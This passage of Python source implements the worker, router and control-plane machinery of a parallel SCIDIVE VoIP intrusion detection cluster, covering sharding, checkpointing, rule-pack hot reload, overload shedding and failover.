                # reload: the session/dialog state is still the shard's
                # history, so carry it across the version gate rather
                # than choosing amnesia.  Rule state rebinds by rule id
                # where shapes match; the rest starts cold.
                engine.restore(blob, force=True)
            restored = True
        except Exception:
            # Unusable snapshot (torn file from a pre-atomic era, version
            # drift): amnesia beats refusing to detect at all.
            pass
    batches = owned = shadowed = 0
    process_frame = engine.process_frame
    process_shadow = engine.process_frame_shadow
    # Scheduler-aware CPU accounting: a process worker timesharing a
    # core with its siblings must not bill descheduled time as busy
    # time, or the critical-path model degenerates on small machines.
    clock = _time.process_time if hard_crash else _time.thread_time
    cpu_start = clock()
    # One staged (epoch, RulePack) awaiting the router's commit.  Staging
    # is the worker's half of the two-phase reload barrier: parse and
    # pre-compile *now* (so the prepare-ack is a real promise the commit
    # cannot break), swap only on commit.
    staged_pack: tuple[int, RulePack] | None = None
    while True:
        message = in_q.get()
        kind = message[0]
        if kind == "batch":
            batches += 1
            if tracer is None:
                for frame, timestamp, is_owner, _tid in message[1]:
                    if is_owner:
                        process_frame(frame, timestamp)
                        owned += 1
                    else:
                        process_shadow(frame, timestamp)
                        shadowed += 1
            else:
                # Queue-wait: wall clock between the router's enqueue
                # stamp and this dequeue (wall time is the only clock
                # comparable across processes).
                wait = max(0.0, _time.time() - message[2])
                for frame, timestamp, is_owner, tid in message[1]:
                    tracer.context = tid
                    if is_owner:
                        if tid:
                            tracer.record(
                                "queue-wait", wait,
                                frame=engine.stats.frames + 1,
                                sim_time=timestamp, parent="route",
                            )
                        process_frame(frame, timestamp)
                        owned += 1
                    else:
                        process_shadow(frame, timestamp)
                        shadowed += 1
                tracer.context = ""
                if tracer.spans:
                    # Drain at the batch boundary: bounded worker memory,
                    # and FIFO ordering guarantees every spans message
                    # precedes this worker's final result.
                    out_q.put(
                        ("spans", worker_id,
                         _span_payload(tracer.drain(), worker_id))
                    )
            if ckpt_path is not None and batches % config.checkpoint_every == 0:
                _write_checkpoint(ckpt_path, engine.checkpoint())
                checkpoints += 1
        elif kind == "rules_prepare":
            _, epoch, pack_text, pack_path = message
            staged_pack = None
            pack, _ = parse_pack(pack_text, pack_path)
            if pack is None:
                errors = _pack_errors(pack_text, pack_path)
                out_q.put(("rules_ready", worker_id, epoch, False, errors))
            else:
                try:
                    # Compile once up front: an ok-ack must mean the
                    # commit cannot fail.
                    compile_pack(pack)
                except Exception as exc:
                    out_q.put(("rules_ready", worker_id, epoch, False, str(exc)))
                else:
                    staged_pack = (epoch, pack)
                    out_q.put(("rules_ready", worker_id, epoch, True, ""))
        elif kind == "rules_commit":
            epoch = message[1]
            if staged_pack is not None and staged_pack[0] == epoch:
                engine.load_rulepack(staged_pack[1])
                staged_pack = None
            out_q.put(("rules_done", worker_id, epoch))
        elif kind == "rules_abort":
            staged_pack = None
        elif kind == "stop":
            if profiler is not None:
                profiler.stop()
                os.makedirs(config.profile_dir, exist_ok=True)
                profiler.write_collapsed(
                    os.path.join(config.profile_dir,
                                 f"worker-{worker_id}.collapsed")
                )
            report = _engine_report(
                worker_id,
                engine,
                batches,
                owned,
                shadowed,
                clock() - cpu_start,
                restored,
                checkpoints,
            )
            out_q.put(("result", worker_id, report))
            return
        elif kind == "crash":
            if hard_crash:
                os._exit(message[1])
            return  # thread "crash": vanish without a report


class _QueueWorker:
    """Shared shape of the process and thread backends."""

    def __init__(self, worker_id, config, factory, out_q) -> None:
        self.worker_id = worker_id
        self.config = config
        self.factory = factory
        self.out_q = out_q
        self.restarts = 0
        # Set by the cluster when the restart budget is spent: the shard
        # is degraded, its batches fail over, and stop() skips it.
        self.dead = False
        self.in_q = self._make_queue(config.queue_depth)

    def _make_queue(self, depth):
        raise NotImplementedError

    def start(self) -> None:
        raise NotImplementedError

    @property
    def alive(self) -> bool:
        raise NotImplementedError

    def respawn(self) -> None:
        """Restart on the *same* input queue: queued batches survive the
        crash; only the dead worker's accumulated state is lost."""
        self.restarts += 1
        self.start()

    def join(self, timeout: float) -> None:
        raise NotImplementedError


class _ProcessWorker(_QueueWorker):
    def __init__(self, worker_id, config, factory, out_q, ctx) -> None:
        self._ctx = ctx
        super().__init__(worker_id, config, factory, out_q)
        self._proc = None

    def _make_queue(self, depth):
        return self._ctx.Queue(maxsize=depth)

    def start(self) -> None:
        self._proc = self._ctx.Process(
            target=_worker_main,
            args=(
                self.worker_id,
                self.config,
                self.factory,
                self.in_q,
                self.out_q,
                True,
            ),
            daemon=True,
            name=f"scidive-worker-{self.worker_id}",
        )
        self._proc.start()

    @property
    def alive(self) -> bool:
        return self._proc is not None and self._proc.is_alive()

    def join(self, timeout: float) -> None:
        if self._proc is not None:
            self._proc.join(timeout)


class _ThreadWorker(_QueueWorker):
    def __init__(self, worker_id, config, factory, out_q) -> None:
        super().__init__(worker_id, config, factory, out_q)
        self._thread = None

    def _make_queue(self, depth):
        return _queue.Queue(maxsize=depth)

    def start(self) -> None:
        self._thread = threading.Thread(
            target=_worker_main,
            args=(
                self.worker_id,
                self.config,
                self.factory,
                self.in_q,
                self.out_q,
                False,
            ),
            daemon=True,
            name=f"scidive-worker-{self.worker_id}",
        )
        self._thread.start()

    @property
    def alive(self) -> bool:
        return self._thread is not None and self._thread.is_alive()

    def join(self, timeout: float) -> None:
        if self._thread is not None:
            self._thread.join(timeout)


class _SerialWorker:
    """The deterministic backend: batches execute at submit time."""

    def __init__(self, worker_id, config, factory) -> None:
        self.worker_id = worker_id
        self.restarts = 0
        self.dead = False  # serial workers cannot die; kept for symmetry
        self.engine = factory(worker_id, config)
        self._tracer = _gate_tracer(self.engine, config)
        self.batches = self.owned = self.shadowed = 0
        self.cpu_seconds = 0.0
        self.report: dict | None = None

    @property
    def alive(self) -> bool:
        return True

    def put(self, message) -> None:
        kind = message[0]
        if kind == "batch":
            cpu0 = _time.thread_time()
            self.batches += 1
            tracer = self._tracer
            for frame, timestamp, is_owner, tid in message[1]:
                if tracer is not None:
                    tracer.context = tid
                    if tid and is_owner:
                        # Inline execution: queue-wait is the (near-zero)
                        # gap between wire() and this put.
                        tracer.record(
                            "queue-wait",
                            max(0.0, _time.time() - message[2]),
                            frame=self.engine.stats.frames + 1,
                            sim_time=timestamp, parent="route",
                        )
                if is_owner:
                    self.engine.process_frame(frame, timestamp)
                    self.owned += 1
                else:
                    self.engine.process_frame_shadow(frame, timestamp)
                    self.shadowed += 1
            if tracer is not None:
                tracer.context = ""
            self.cpu_seconds += _time.thread_time() - cpu0
        elif kind == "stop":
            self.report = _engine_report(
                self.worker_id,
                self.engine,
                self.batches,
                self.owned,
                self.shadowed,
                self.cpu_seconds,
            )


# ---------------------------------------------------------------------------
# Cluster side
# ---------------------------------------------------------------------------


@dataclass(slots=True)
class ClusterStats:
    """What the router itself did (workers report their own numbers)."""

    frames_in: int = 0
    frames_routed: int = 0      # owner deliveries
    frames_replicated: int = 0  # shadow (broadcast) deliveries
    frames_dropped: int = 0
    batches_submitted: int = 0
    worker_restarts: int = 0
    router_seconds: float = 0.0
    frames_by_plane: dict = field(default_factory=dict)
    fragments_expired: int = 0
    # Graceful-degradation accounting: frames shed under queue pressure,
    # by plane (media sheds before signalling), and shards abandoned
    # after max_restarts.  Shed frames also count in frames_dropped.
    frames_shed: dict = field(default_factory=dict)
    # Penalty-box attribution: shed frames whose source was adjudicated
    # a heavy hitter, keyed by dotted-quad (bounded by the accountant's
    # candidate set, not by how many sources a flood spoofs).
    shed_by_source: dict = field(default_factory=dict)
    workers_dead: int = 0
    rulepack_reloads: int = 0
    # Cross-process tracing: spans discarded at any tracer's max_spans
    # bound (workers + router + the merge cap), summed at stop().
    spans_dropped: int = 0

    def as_dict(self) -> dict:
        return {
            "frames_in": self.frames_in,
            "frames_routed": self.frames_routed,
            "frames_replicated": self.frames_replicated,
            "frames_dropped": self.frames_dropped,
            "batches_submitted": self.batches_submitted,
            "worker_restarts": self.worker_restarts,
            "router_seconds": self.router_seconds,
            "frames_by_plane": dict(self.frames_by_plane),
            "fragments_expired": self.fragments_expired,
            "frames_shed": dict(self.frames_shed),
            "shed_by_source": dict(self.shed_by_source),
            "workers_dead": self.workers_dead,
            "rulepack_reloads": self.rulepack_reloads,
            "spans_dropped": self.spans_dropped,
        }


@dataclass(slots=True)
class WorkerReport:
    """One worker's final accounting, normalised from the wire payload."""

    worker_id: int
    alerts: list
    stats: EngineStats
    shadow_stats: EngineStats
    batches: int = 0
    frames_owned: int = 0
    frames_shadowed: int = 0
    restarts: int = 0
    crashed: bool = False
    worker_cpu_seconds: float = 0.0
    restored: bool = False     # resumed from a detection-state checkpoint
    checkpoints: int = 0       # snapshots written by this worker's last life
    metrics: dict | None = None
    spans: list = field(default_factory=list)  # final-report span records
    spans_dropped: int = 0

    @property
    def busy_seconds(self) -> float:
        """CPU spent on owned plus shadow work — this worker's share of
        the cluster's critical path.

        Prefers the worker's scheduler-aware self-measurement
        (``process_time``/``thread_time``), which does not count time
        the worker spent descheduled while siblings shared a core; the
        engine's wall-clock ``cpu_seconds`` is the fallback."""
        if self.worker_cpu_seconds > 0:
            return self.worker_cpu_seconds
        return self.stats.cpu_seconds + self.shadow_stats.cpu_seconds

    @classmethod
    def from_payload(cls, payload: dict, restarts: int) -> "WorkerReport":
        return cls(
            worker_id=payload["worker_id"],
            alerts=list(payload["alerts"]),
            stats=EngineStats.from_dict(payload["stats"]),
            shadow_stats=EngineStats.from_dict(payload["shadow_stats"]),
            batches=payload["batches"],
            frames_owned=payload["frames_owned"],
            frames_shadowed=payload["frames_shadowed"],
            restarts=restarts,
            worker_cpu_seconds=payload.get("worker_cpu_seconds", 0.0),
            restored=payload.get("restored", False),
            checkpoints=payload.get("checkpoints", 0),
            metrics=payload.get("metrics"),
            spans=list(payload.get("spans", ())),
            spans_dropped=payload.get("spans_dropped", 0),
        )

    @classmethod
    def crashed_report(cls, worker_id: int, restarts: int) -> "WorkerReport":
        return cls(
            worker_id=worker_id,
            alerts=[],
            stats=EngineStats(),
            shadow_stats=EngineStats(),
            restarts=restarts,
            crashed=True,
        )


@dataclass(slots=True)
class ClusterResult:
    """The merged cluster-level view a single engine would have given."""

    alerts: list
    stats: EngineStats
    shadow_stats: EngineStats
    cluster: ClusterStats
    workers: list
    registry: MetricsRegistry | None = None
    # Merged, time-sorted cross-process span timeline (None = tracing off).
    trace: list | None = None

    def alert_multiset(self) -> "collections.Counter[Alert]":
        """Order-insensitive alert comparison (Alert equality already
        excludes the events payload)."""
        return collections.Counter(self.alerts)

    def critical_path_seconds(self) -> float:
        """The modeled parallel wall-clock: the busiest worker bounds the
        sharded stage and the (serial) router bounds distribution."""
        busiest = max((w.busy_seconds for w in self.workers), default=0.0)
        return max(busiest, self.cluster.router_seconds)

    def modeled_frames_per_second(self) -> float:
        path = self.critical_path_seconds()
        return self.cluster.frames_in / path if path > 0 else 0.0


class ScidiveCluster:
    """Session-sharded parallel SCIDIVE.

    Usage::

        cluster = ScidiveCluster(workers=4, vantage_ip="10.0.0.10")
        result = cluster.process_trace(trace)
        assert result.alert_multiset() == single_engine_multiset

    or incrementally::

        with ScidiveCluster(workers=2, backend="threads") as cluster:
            for record in trace:
                cluster.submit_frame(record.frame, record.timestamp)
        result = cluster.result
    """

    def __init__(
        self,
        config: ClusterConfig | None = None,
        engine_factory=default_engine_factory,
        **overrides,
    ) -> None:
        config = config if config is not None else ClusterConfig()
        if overrides:
            config = replace(config, **overrides)
        self.config = config.validate()
        self.engine_factory = engine_factory
        self.sharder = SessionSharder()
        self.cluster_stats = ClusterStats()
        self.result: ClusterResult | None = None
        self._workers: list = []
        self._pending: list[list] = []
        self._out_q = None
        self._started = False
        self._stopped = False
        # Serial workers execute inline; their CPU must not be billed to
        # the router when computing the critical path.
        self._inline_seconds = 0.0
        # Wall clock of the last submitted frame, for /healthz liveness.
        self._last_submit_monotonic: float | None = None
        # Trace time of the last submitted frame: self-diagnostic alerts
        # are stamped with it so they sort into the merged timeline.
        self._last_submit_ts = 0.0
        # Router-raised self-diagnostic alerts (dead shards), merged into
        # the result alongside the workers' detection alerts.
        self.self_alerts: list[Alert] = []
        # Set when start() had to create a private checkpoint temp dir;
        # stop() removes it.
        self._own_checkpoint_dir: str | None = None
        # Rule-pack hot reload: the active pack (None = class-built
        # defaults) and a monotonically increasing reload epoch — every
        # two-phase barrier round gets a fresh epoch so late acks from an
        # aborted round can never satisfy a newer one.
        self.rulepack: RulePack | None = _config_rulepack(self.config)
        self._rules_epoch = 0
        # Cross-process tracing (router half): the router records "route"
        # spans into its own tracer, caches per-shard-key sampling
        # decisions, and accumulates worker span payloads drained over
        # the result queue until stop() merges everything.
        self._tracer = (
            Tracer(max_spans=self.config.trace_max_spans)
            if self.config.trace_enabled
            else None
        )
        self._trace_ids: dict = {}
        self._worker_spans: list[dict] = []
        self._router_spans_dropped = 0
        # Overload control plane (router half): the controller ticks in
        # submit_frame, its transition alerts land in self_alerts, and
        # the accountant's heavy-hitter verdicts guard every shed.
        self.overload: OverloadController | None = None
        self.accountant: SourceAccountant | None = None
        if self.config.overload_enabled:
            ocfg = self.config.overload_config or OverloadConfig()
            self.overload = OverloadController(
                config=ocfg, name="cluster", emit_alert=self.self_alerts.append
            )
            self.accountant = SourceAccountant(ocfg)
        # Serial-backend brownout: saved (cost_sample_rate, summary_sample)
        # per inline engine, restored when the controller heals to normal.
        self._degraded_knobs: list[tuple] | None = None
        # frames_dropped high-water at the last controller tick, so each
        # tick sees only its own window's shed rate.
        self._tick_dropped = 0

    # -- lifecycle ------------------------------------------------------------

    @property
    def started(self) -> bool:
        return self._started

    def start(self) -> "ScidiveCluster":
        if self._started:
            return self
        config = self.config
        if config.checkpoint_every and config.backend != "serial":
            if config.checkpoint_dir is None:
                self._own_checkpoint_dir = _tempfile.mkdtemp(prefix="scidive-ckpt-")
                config = replace(config, checkpoint_dir=self._own_checkpoint_dir)
                self.config = config
            else:
                os.makedirs(config.checkpoint_dir, exist_ok=True)
                # A previous run's snapshots would resurrect foreign state
                # into worker 0..N of *this* run.
                for stale in _glob.glob(
                    os.path.join(config.checkpoint_dir, "worker-*.ckpt")
                ):
                    os.unlink(stale)
        n = config.workers
        self._pending = [[] for _ in range(n)]
        if config.backend == "serial":
            self._workers = [
                _SerialWorker(i, config, self.engine_factory) for i in range(n)
            ]
        elif config.backend == "threads":
            self._out_q = _queue.Queue()
            self._workers = [
                _ThreadWorker(i, config, self.engine_factory, self._out_q)
                for i in range(n)
            ]
        else:
            ctx = _mp.get_context()
            self._out_q = ctx.Queue()
            self._workers = [
                _ProcessWorker(i, config, self.engine_factory, self._out_q, ctx)
                for i in range(n)
            ]
        if config.backend != "serial":
            for worker in self._workers:
                worker.start()
        self._started = True
        return self

    def __enter__(self) -> "ScidiveCluster":
        return self.start()

    def __exit__(self, exc_type, exc, tb) -> None:
        if not self._stopped:
            self.stop()

    # -- ingestion ------------------------------------------------------------

    def submit_frame(self, frame: bytes, timestamp: float) -> None:
        """Route one frame (both offline replay and live taps call this)."""
        if not self._started:
            self.start()
        stats = self.cluster_stats
        # thread_time: router CPU only — neither backpressure sleeps nor
        # sibling processes timesharing the core count as router work.
        t0 = _time.thread_time()
        inline0 = self._inline_seconds
        self._last_submit_monotonic = _time.monotonic()
        self._last_submit_ts = timestamp
        stats.frames_in += 1
        overload = self.overload
        if overload is not None:
            source = bytes(frame[26:30]) if len(frame) >= 34 else b""
            self.accountant.record(source)
            if stats.frames_in % overload.config.tick_frames == 0:
                self._overload_tick(timestamp)
            if overload.shedding and self.accountant.is_heavy(source):
                # Penalty box: in shed state an adjudicated-heavy source
                # loses frames at the router door — every plane,
                # signalling included, because a flooding source's
                # INVITEs *are* the flood.  Innocent sources never take
                # this path.
                stats.frames_dropped += 1
                stats.frames_shed["penalty-box"] = (
                    stats.frames_shed.get("penalty-box", 0) + 1
                )
                ip = format_source(source)
                stats.shed_by_source[ip] = stats.shed_by_source.get(ip, 0) + 1
                stats.router_seconds += _time.thread_time() - t0
                return
        n = self.config.workers
        tracer = self._tracer
        routed: list[tuple[str, str, int]] = []
        for key, frames in self.sharder.route(frame, timestamp):
            plane = key.plane
            stats.frames_by_plane[plane] = (
                stats.frames_by_plane.get(plane, 0) + len(frames)
            )
            owner = shard_index(key, n)
            tid = "" if tracer is None else self._trace_id(key)
            if key.broadcast and n > 1:
                for wid in range(n):
                    self._append(wid, frames, wid == owner, plane, tid)
            else:
                self._append(owner, frames, True, plane, tid)
            if tid:
                routed.append((tid, plane, owner))
        elapsed = _time.thread_time() - t0 - (self._inline_seconds - inline0)
        stats.router_seconds += elapsed
        if routed:
            # The root span of every sampled journey: one per routing
            # decision, carrying the owner shard the session hashed to.
            for tid, plane, owner in routed:
                tracer.record(
                    "route", elapsed, frame=stats.frames_in,
                    sim_time=timestamp, trace_id=tid, parent="",
                    worker=owner, plane=plane,
                )

    def _trace_id(self, key) -> str:
        """Cached head-based sampling decision for one shard key
        ("" = session not sampled)."""
        cached = self._trace_ids.get(key)
        if self.overload is not None and self.overload.degraded:
            # Brownout sheds optional work first: no *new* sessions start
            # sampling while degraded (already-sampled sessions keep
            # their spans; the un-cached decision is retaken after the
            # controller heals).
            return cached or ""
        if cached is None:
            cached = TraceContext.for_session(
                key.canon(), self.config.trace_sample_rate
            ).trace_id
            self._trace_ids[key] = cached
        return cached

    def _append(
        self, wid: int, frames, is_owner: bool, plane: str, tid: str = ""
    ) -> None:
        stats = self.cluster_stats
        if is_owner:
            stats.frames_routed += len(frames)
        else:
            stats.frames_replicated += len(frames)
        pending = self._pending[wid]
        # Pending items carry their plane so the overflow path can shed
        # media before signalling (plane stays at index 3), plus the
        # session's trace id; the wire keeps only what workers need.
        pending.extend((frame, ts, is_owner, plane, tid) for frame, ts in frames)
        batch_size = self.config.batch_size
        while len(pending) >= batch_size:
            self._submit_batch(wid, pending[:batch_size])
            del pending[:batch_size]

    @staticmethod
    def _wire(items: list) -> tuple:
        """Strip the router-only plane tag: workers see ``(frame, ts,
        owner, trace_id)`` plus the batch's wall-clock enqueue stamp
        (queue-wait = dequeue time − stamp)."""
        return (
            "batch",
            [(frame, ts, owner, tid) for frame, ts, owner, _plane, tid in items],
            _time.time(),
        )

    def _submit_batch(self, wid: int, items: list) -> None:
        stats = self.cluster_stats
        worker = self._workers[wid]
        if isinstance(worker, _SerialWorker):
            t0 = _time.perf_counter()
            worker.put(self._wire(items))
            self._inline_seconds += _time.perf_counter() - t0
            stats.batches_submitted += 1
            return
        if self.config.overflow == "drop":
            try:
                worker.in_q.put_nowait(self._wire(items))
            except _queue.Full:
                # Queue pressure: shed the media/other planes, then fight
                # for the signalling remainder — a lost RTP packet costs
                # one sample, a lost BYE silences a dialog's detection.
                items = self._shed_under_pressure(worker, items)
                if not items:
                    return
            else:
                stats.batches_submitted += 1
                return
        self._deliver_blocking(worker, items)

    def _shed_non_signalling(self, items: list) -> list:
        """Drop every non-signalling item, with per-plane accounting;
        returns the signalling-plane remainder."""
        stats = self.cluster_stats
        kept = []
        for item in items:
            plane = item[3]
            if plane == PLANE_SIGNALLING:
                kept.append(item)
            else:
                stats.frames_shed[plane] = stats.frames_shed.get(plane, 0) + 1
                stats.frames_dropped += 1
        return kept

    def _shed_under_pressure(self, worker, items: list) -> list:
        """One queue-full shedding round; returns what must still be
        delivered blocking (possibly empty if a retry landed).

        Without the overload plane this is the legacy all-or-nothing
        media shed.  With it, the penalty box stages the drops — heavy
        non-signalling, then innocent non-signalling, then (only in
        ``shed`` state) heavy signalling — retrying the queue between
        stages so each escalation only happens if the previous one did
        not relieve the pressure.  Innocent signalling is never staged.
        """
        stats = self.cluster_stats
        if self.overload is None or self.accountant is None:
            return self._shed_non_signalling(items)
        accountant = self.accountant
        stages, _protected = shed_plan(
            items,
            is_heavy=lambda item: accountant.is_heavy(bytes(item[0][26:30])),
            is_signalling=lambda item: item[3] == PLANE_SIGNALLING,
            allow_heavy_signalling=self.overload.shedding,
        )
        remaining = list(items)
        for stage in stages:
            if not stage:
                continue
            dropped = {id(item) for item in stage}
            for item in stage:
                plane = item[3]
                stats.frames_shed[plane] = stats.frames_shed.get(plane, 0) + 1
                stats.frames_dropped += 1
                source = bytes(item[0][26:30])
                if accountant.is_heavy(source):
                    ip = format_source(source)
                    stats.shed_by_source[ip] = (
                        stats.shed_by_source.get(ip, 0) + 1
                    )
            remaining = [item for item in remaining if id(item) not in dropped]
            if not remaining:
                return []
            try:
                worker.in_q.put_nowait(self._wire(remaining))
            except _queue.Full:
                continue
            stats.batches_submitted += 1
            return []
        return remaining

    def _deliver_blocking(self, worker, items: list) -> None:
        """Bounded-blocking put with failover: backpressure while the
        worker lives, reroute to the next live shard once it is declared
        dead, shed only when every worker is gone (drop policy) or raise
        (block policy — the producer asked to be wedged rather than lose
        frames, but an IDS with zero live engines cannot honour that)."""
        stats = self.cluster_stats
        message = self._wire(items)
        while True:
            if not self._ensure_alive(worker):
                fallback = self._failover_target(worker.worker_id)
                if fallback is None:
                    if self.config.overflow == "drop":
                        for item in items:
                            plane = item[3]
                            shed = stats.frames_shed.get(plane, 0)
                            stats.frames_shed[plane] = shed + 1
                        stats.frames_dropped += len(items)
                        return
                    raise ClusterError(
                        "every worker exhausted max_restarts="
                        f"{self.config.max_restarts}; no shard left to detect"
                    )
                worker = self._workers[fallback]
                continue
            try:
                worker.in_q.put(message, timeout=0.05)
                stats.batches_submitted += 1
                return
            except _queue.Full:
                continue

    def _ensure_alive(self, worker) -> bool:
        """True if the worker can take work (respawning it if needed);
        False once its restart budget is spent — the shard is then marked
        dead (queue drained, self-diagnostic alert raised) instead of
        killing the whole run."""
        if worker.dead:
            return False
        if worker.alive:
            return True
        if worker.restarts >= self.config.max_restarts:
            self._mark_dead(worker)
            return False
        worker.respawn()
        self.cluster_stats.worker_restarts += 1
        return True

    def _failover_target(self, wid: int) -> int | None:
        """The next shard (ring order) not yet declared dead."""
        n = self.config.workers
        for step in range(1, n):
            candidate = self._workers[(wid + step) % n]
            if not candidate.dead:
                return candidate.worker_id
        return None

    def _mark_dead(self, worker) -> None:
        """Degrade one shard: drain what its queue still holds (counted
        as dropped), raise a CRITICAL self-diagnostic alert, and leave
        the remaining shards detecting.  Broadcast signalling means the
        survivors already hold this shard's session state in shadow, so
        failed-over owner batches land on a warm engine."""
        worker.dead = True
        stats = self.cluster_stats
        stats.workers_dead += 1
        drained = 0
        while True:
            try:
                message = worker.in_q.get_nowait()
            except _queue.Empty:
                break
            if message[0] == "batch":
                drained += len(message[1])
        stats.frames_dropped += drained
        self.self_alerts.append(
            Alert(
                rule_id=WORKER_DEAD_RULE_ID,
                rule_name="self-diagnostic: worker shard degraded",
                time=self._last_submit_ts,
                session=f"worker-{worker.worker_id}",
                severity=Severity.CRITICAL,
                attack_class="self-diagnostic",
                message=(
                    f"worker {worker.worker_id} abandoned after "
                    f"{worker.restarts} restarts (max_restarts="
                    f"{self.config.max_restarts}); {drained} queued frames "
                    f"dropped, owner batches failing over to surviving shards"
                ),
            )
        )

    def flush(self) -> None:
        """Push all partially-filled batches to the workers."""
        for wid, pending in enumerate(self._pending):
            if pending:
                self._submit_batch(wid, pending)
                self._pending[wid] = []

    def inject_crash(self, worker_id: int, exit_code: int = 13) -> None:
        """Failure injection (tests): make one worker die mid-stream."""
        if self.config.backend == "serial":
            raise ClusterError("serial backend has no workers to crash")
        worker = self._workers[worker_id]
        worker.in_q.put(("crash", exit_code))

    # -- overload control -------------------------------------------------------

    def _overload_tick(self, timestamp: float) -> None:
        """One controller observation: worst queue fill across workers,
        the budget burn rate where the engines are in-process, and the
        tick window's shed rate (drops while shedding works must still
        read as pressure — the penalty box keeps the queues empty)."""
        dropped = self.cluster_stats.frames_dropped
        shed_rate = (dropped - self._tick_dropped) / self.overload.config.tick_frames
        self._tick_dropped = dropped
        self.overload.observe(
            timestamp,
            queue_fill=self._queue_fill(),
            burn_rate=self._inline_burn_rate(),
            shed_rate=shed_rate,
            top_sources=self.accountant.top_sources(),
        )
        self._apply_degradation()

    def _queue_fill(self) -> float:
        """Worst per-worker input-queue fill fraction (0..1)."""
        depth = self.config.queue_depth
        worst = 0
        for worker in self._workers:
            in_q = getattr(worker, "in_q", None)
            if in_q is None:
                continue
            try:
                size = in_q.qsize()
            except NotImplementedError:  # pragma: no cover - macOS mp queues
                continue
            if size > worst:
                worst = size
        return min(1.0, worst / depth)

    def _inline_burn_rate(self) -> float:
        """Latency-budget burn where it is observable: the serial backend
        runs engines in-process; queued backends drive on fill alone."""
        if self.config.backend != "serial":
            return 0.0
        worst = 0.0
        for worker in self._workers:
            budget = getattr(worker.engine, "latency_budget", None)
            if budget is not None and budget.burn_rate > worst:
                worst = budget.burn_rate
        return worst

    def _apply_degradation(self) -> None:
        """Brownout policy for in-process engines: floor the per-frame
        optional work (rule cost sampling off, summary sketches widened)
        while degraded, heal the saved rates on the return to normal.
        Queued backends get the router-side half only (trace sampling
        suppression in :meth:`_trace_id`)."""
        if self.config.backend != "serial":
            return
        degraded = self.overload.degraded
        if degraded and self._degraded_knobs is None:
            saved = []
            for worker in self._workers:
                engine = worker.engine
                ruleset = getattr(engine, "ruleset", None)
                instr = getattr(engine, "_instr", None)
                saved.append(
                    (
                        ruleset.cost_sample_rate if ruleset is not None else 0,
                        instr.summary_sample if instr is not None else 1,
                    )
                )
                if ruleset is not None:
                    ruleset.cost_sample_rate = 0
                if instr is not None:
                    instr.summary_sample = max(instr.summary_sample, 64)
            self._degraded_knobs = saved
        elif not degraded and self._degraded_knobs is not None:
            for worker, (cost_rate, summary) in zip(
                self._workers, self._degraded_knobs
            ):
                engine = worker.engine
                ruleset = getattr(engine, "ruleset", None)
                instr = getattr(engine, "_instr", None)
                if ruleset is not None:
                    ruleset.cost_sample_rate = cost_rate
                if instr is not None:
                    instr.summary_sample = summary
            self._degraded_knobs = None

    def overload_status(self) -> dict | None:
        """The /healthz and ``repro stats`` view (None = plane disabled)."""
        if self.overload is None:
            return None
        view = self.overload.as_dict()
        view["sources"] = self.accountant.as_dict()
        view["shed_by_source"] = dict(self.cluster_stats.shed_by_source)
        return view

    # -- rule-pack hot reload ---------------------------------------------------

    def reload_rulepack(self, pack) -> RulePack:
        """Atomically swap every worker onto a new rule pack, mid-stream.

        ``pack`` is a :class:`~repro.rulespec.RulePack` or a path to a
        ``.rules`` file.  Two-phase epoch barrier over the existing
        control path:

        1. **prepare** — pending batches are flushed, then every live
           worker receives ``("rules_prepare", epoch, text, path)``.
           Input queues are FIFO, so a worker's ready-ack implies every
           batch routed before the reload was already evaluated under
           the old pack.  Workers parse *and pre-compile* the staged
           pack but keep detecting with the old one.
        2. **commit** — only once every worker acked ok does the router
           send ``("rules_commit", epoch)``; each worker swaps via
           :meth:`~repro.core.engine.ScidiveEngine.load_rulepack`
           (detection state carries over by rule id) and acks done.  Any
           staging failure aborts the epoch on all shards and raises
           :class:`ClusterError`, leaving the old pack live everywhere.

        The router submits no frames while this method runs, so no frame
        is ever evaluated under a mixed pack set and none are dropped.
        The config is rewritten too, so workers respawned after a later
        crash build under the *new* pack (their checkpoint restore
        crosses the pack-version gate with ``force=True``).
        """
        if not isinstance(pack, RulePack):
            pack = load_pack(os.fspath(pack))
        if self._stopped:
            raise ClusterError("cluster already stopped; cannot reload rules")
        if not self._started:
            self.start()
        # describe() fallback: a hand-built pack with no source text
        # still crosses the wire in its canonical form.
        text = pack.source_text or pack.describe()
        path = pack.source_path or "<reload>"
        self._rules_epoch += 1
        epoch = self._rules_epoch
        self.flush()
        if self.config.backend == "serial":
            for worker in self._workers:
                worker.engine.load_rulepack(pack)
        else:
            self._reload_queued(epoch, text, path)
        self.rulepack = pack
        self.config = replace(self.config, pack_text=text, pack_path=path)
        # Workers respawn from the config *they* hold (respawn() →
        # start() → _worker_main(worker.config)), so rebind every worker
        # to the updated config: a crash after this reload must rebuild
        # under the new pack, not the one the worker was spawned with.
        if self.config.backend != "serial":
            for worker in self._workers:
                worker.config = self.config
        self.cluster_stats.rulepack_reloads += 1
        return pack

    def _reload_queued(self, epoch: int, text: str, path: str) -> None:
        """Drive the prepare/commit barrier for the queue-backed backends."""
        live = [worker for worker in self._workers if not worker.dead]
        if not live:
            raise ClusterError("every worker shard is dead; cannot reload rules")
        prepare = ("rules_prepare", epoch, text, path)
        for worker in live:
            self._send_control(worker, prepare)
        readies = self._collect_acks("rules_ready", epoch, live, resend=(prepare,))
        failures = {
            wid: ack[1]
            for wid, ack in readies.items()
            if ack is not None and not ack[0]
        }
        if failures:
            abort = ("rules_abort", epoch)
            for worker in live:
                if not worker.dead and worker.alive:
                    self._send_control(worker, abort)
            detail = "; ".join(
                f"worker {wid}: {error}" for wid, error in sorted(failures.items())
            )
            raise ClusterError(f"rule-pack reload rejected at prepare: {detail}")
        survivors = [worker for worker in live if not worker.dead]
        commit = ("rules_commit", epoch)
        for worker in survivors:
            self._send_control(worker, commit)
        self._collect_acks("rules_done", epoch, survivors, resend=(prepare, commit))

    def _send_control(self, worker, message: tuple) -> None:
        """Blocking control-plane put: backpressure while the worker
        drains its queue; a death mid-put is left to the ack collector,
        which respawns and re-sends."""
        while True:
            try:
                worker.in_q.put(message, timeout=0.05)
                return
            except _queue.Full:
                if not worker.alive:
                    return

    def _collect_acks(self, kind, epoch, workers, resend) -> dict:
        """Gather one ``(kind, wid, epoch, ...)`` ack per worker.

        A worker that dies mid-barrier is respawned (fresh engine from
        the config, still the *old* pack) and the ``resend`` messages
        are replayed to it; one whose restart budget is spent is marked
        dead and recorded with a ``None`` ack — the barrier degrades
        with the shard instead of wedging.  Stray messages (acks from an
        aborted epoch, a respawned worker's extra ready during the done
        phase) are discarded by the kind/epoch filter.

        The deadline is checked on *every* loop iteration (a steady
        stream of stray messages must not defer the timeout forever) and
        is re-armed whenever a worker is respawned mid-barrier: a cold
